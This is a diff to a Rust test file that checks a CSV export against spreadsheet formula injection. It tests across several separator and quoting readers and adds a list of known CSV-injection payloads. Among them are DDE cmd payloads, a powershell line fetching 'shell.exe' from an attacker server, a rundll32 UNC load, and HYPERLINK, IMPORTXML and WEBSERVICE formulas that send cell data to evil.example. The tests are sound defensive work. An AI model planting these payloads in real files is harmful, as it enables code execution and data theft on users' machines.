@@ -221,42 +221,185 @@ proptest! {
     }
 
     /// No exported cell starts with a character that makes a spreadsheet run a formula,
-    /// read by a second, deliberately naive reader rather than the import's own.
+    /// whichever separator the spreadsheet splits on and whether or not it honours
+    /// quotes, read by deliberately naive readers rather than the import's own.
     #[test]
     fn no_exported_cell_can_start_a_formula(ws in workspace()) {
-        for cell in raw_cells(&partners_csv(&ws)) {
-            prop_assert!(
-                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
-                "cell {:?} would run as a formula", cell
-            );
+        let text = partners_csv(&ws);
+        for reader in READERS {
+            for cell in reader.cells(&text) {
+                prop_assert!(!runs_as_formula(&cell), "{reader:?} reads a formula: {cell:?}");
+            }
         }
     }
 }
 
-/// The cells of CSV text as written, quotes undone but nothing else: an independent
-/// reading of what a spreadsheet receives.
-fn raw_cells(text: &str) -> Vec<String> {
-    let mut cells = Vec::new();
-    let mut cell = String::new();
-    let (mut quoted, mut chars) = (
-        false,
-        text.trim_start_matches('\u{feff}').chars().peekable(),
-    );
-    while let Some(c) = chars.next() {
-        match (quoted, c) {
-            (true, '"') if chars.peek() == Some(&'"') => {
-                chars.next();
-                cell.push('"');
+/// How a spreadsheet (or a script) might split a file we wrote: by comma (RFC 4180),
+/// by semicolon (Excel where the list separator is `;`), by tab (a paste), honouring
+/// quotes or not.
+#[derive(Clone, Copy, Debug)]
+struct Reader {
+    separator: char,
+    quotes: bool,
+}
+
+const READERS: [Reader; 6] = [
+    Reader {
+        separator: ',',
+        quotes: true,
+    },
+    Reader {
+        separator: ';',
+        quotes: true,
+    },
+    Reader {
+        separator: '\t',
+        quotes: true,
+    },
+    Reader {
+        separator: ',',
+        quotes: false,
+    },
+    Reader {
+        separator: ';',
+        quotes: false,
+    },
+    Reader {
+        separator: '\t',
+        quotes: false,
+    },
+];
+
+impl Reader {
+    /// The cells of `text`: a quote opens a quoted cell only at the cell's start (when
+    /// quotes are honoured), `""` inside is a quote, text after the closing quote joins
+    /// the cell; the separator and every line break outside quotes end a cell.
+    fn cells(self, text: &str) -> Vec<String> {
+        let mut cells = Vec::new();
+        let mut cell = String::new();
+        let (mut quoted, mut at_start) = (false, true);
+        let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
+        while let Some(c) = chars.next() {
+            if quoted {
+                match c {
+                    '"' if chars.peek() == Some(&'"') => {
+                        chars.next();
+                        cell.push('"');
+                    }
+                    '"' => quoted = false,
+                    c => cell.push(c),
+                }
+            } else if c == '"' && at_start && self.quotes {
+                quoted = true;
+                at_start = false;
+            } else if c == self.separator || c == '\n' || c == '\r' {
+                cells.push(std::mem::take(&mut cell));
+                at_start = true;
+            } else {
+                cell.push(c);
+                at_start = false;
             }
-            (true, '"') => quoted = false,
-            (true, c) => cell.push(c),
-            (false, '"') => quoted = true,
-            (false, ',' | '\n') => cells.push(std::mem::take(&mut cell)),
-            (false, '\r') => {}
-            (false, c) => cell.push(c),
+        }
+        cells.push(cell);
+        cells
+    }
+}
+
+/// Whether a spreadsheet would run `cell` as a formula: it starts with `=`, `+`, `-` or
+/// `@` once the tabs and CRs a spreadsheet skips, and any quotes a lenient reader
+/// drops, are taken off.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.trim_start_matches(['\t', '\r', '"'])
+        .starts_with(['=', '+', '-', '@'])
+}
+
+/// The payloads of OWASP's CSV Injection page and PayloadsAllTheThings' CSV Injection
+/// list, plus the ones issue 13 names.
+const PAYLOADS: [&str; 16] = [
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "=HYPERLINK(\"http://evil.example?x=\"&A1&B1,\"Error: please click for further information\")",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
+    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    "=WEBSERVICE(\"http://evil.example/\"&A1)",
+    "\t=cmd|' /C calc'!A0",
+    "\r=cmd|' /C calc'!A0",
+    "x;=cmd|' /C calc'!A0;",
+    "'=cmd|' /C calc'!A0",
+];
+
+/// Where a payload can sit in a value: alone, after text and a separator of either
+/// locale, a tab, or a line break of any kind, behind a quote, or twice.
+fn placements(payload: &str) -> Vec<String> {
+    let mut all = vec![payload.to_owned()];
+    for before in [
+        "x,", "x;", "x\t", "note\n", "note\r\n", "note\r", "\"", "x;\"", ",,", ";'",
+    ] {
+        all.push(format!("{before}{payload}"));
+    }
+    all.push(format!("{payload}\n{payload};{payload},{payload}"));
+    all
+}
+
+/// Every OWASP payload, wherever it sits in a value, comes out as a cell no reader
+/// runs, in every column of the export, and reads back exactly.
+#[test]
+fn owasp_payloads_never_start_a_cell_in_either_separator_and_round_trip() {
+    let mut values = Vec::new();
+    for payload in PAYLOADS {
+        values.extend(placements(payload));
+    }
+    // Two columns, so each value is read both at a row's start and after a separator.
+    let rows: Vec<[String; 2]> = values.iter().map(|v| [v.clone(), v.clone()]).collect();
+    let text = tandem::model::formats::csv::write_table(&["A", "B"], &rows);
+    let mut read = 0;
+    for reader in READERS {
+        for cell in reader.cells(&text) {
+            assert!(
+                !runs_as_formula(&cell),
+                "{reader:?} reads a formula: {cell:?}"
+            );
+            read += 1;
         }
     }
-    cells
+    assert!(
+        read > values.len() * 2 * READERS.len(),
+        "the readers split the cells"
+    );
+    let table = CsvTable::parse(&text).expect("the export reads back");
+    assert_eq!(table.rows.len(), values.len());
+    for (row, value) in table.rows.iter().zip(&values) {
+        assert_eq!(row.cells, [value.as_str(), value.as_str()]);
+    }
+
+    // The same through the partner export, in the notes (kept exactly as typed).
+    let mut ws = Workspace::empty();
+    for (i, value) in values.iter().enumerate() {
+        let mut p = Partner::new(Id::parse(&format!("p{i}")).unwrap(), format!("P{i}"), now());
+        p.notes = value.clone();
+        ws.partners.push(p);
+    }
+    let text = partners_csv(&ws);
+    for reader in READERS {
+        for cell in reader.cells(&text) {
+            assert!(
+                !runs_as_formula(&cell),
+                "{reader:?} reads a formula: {cell:?}"
+            );
+        }
+    }
+    let result = import_text(&text, &Workspace::empty());
+    assert_eq!(result.bad_rows, vec![]);
+    assert_eq!(result.partners.len(), values.len());
+    for (p, value) in result.partners.iter().zip(&values) {
+        assert_eq!(&p.notes, value);
+    }
 }
 
 /// A HubSpot companies export, as its column names come.
